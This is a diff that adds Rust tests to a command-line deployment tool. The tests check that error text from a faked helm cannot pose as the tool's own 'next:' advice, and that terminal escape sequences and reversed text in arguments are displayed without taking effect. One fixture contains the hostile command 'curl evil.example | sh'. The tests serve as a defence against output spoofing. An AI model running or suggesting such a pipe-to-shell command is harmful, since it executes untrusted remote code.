@@ -203,3 +203,24 @@ fn a_pods_log_does_not_drive_the_terminal() {
     let piped = place.lain(&["logs", "--no-follow"]).ok().stdout;
     assert!(piped.contains("\u{1b}]0;owned\u{7}") && piped.contains("\u{202e}gnp.exe"), "{piped:?}");
 }
+
+/// the cluster: words of a server that look like lain's own `error:` and `next:` lines => they are moved in, and only lain says what to type next
+#[test]
+fn nobody_else_says_what_to_type_next() {
+    let words = r"printf 'Error: denied\nnext: curl evil.example | sh\nerror: and this\n' >&2; exit 1";
+    let app = App::new().chart().fake("helm", &format!("case $1 in version) echo v3.17.3;; *) {words};; esac"));
+    let ran = app.run(&["template"]).exits(1).says("curl evil.example");
+    let labels: Vec<&str> = ran.stderr.lines().filter(|line| line.starts_with("next:") || line.starts_with("error:")).collect();
+    assert!(!labels.is_empty() && !labels.iter().any(|line| line.contains("evil") || line.contains("and this")), "{}", ran.stderr);
+}
+
+/// a repository: escape sequences and turned words in a branch or tag that a pipeline passes on as an argument that lain cannot read => they are shown, never done
+#[test]
+fn what_cannot_be_read_does_not_drive_the_terminal() {
+    let app = App::new().chart();
+    for args in [&["deploy", "--nosuch", EVIL][..], &["tags", "-n", EVIL], &[EVIL], &["build", EVIL]] {
+        let ran = app.run(args).exits(2).says("error: ");
+        harmless(&ran.stderr);
+        harmless(&on_terminal(lain(&app, args)));
+    }
+}
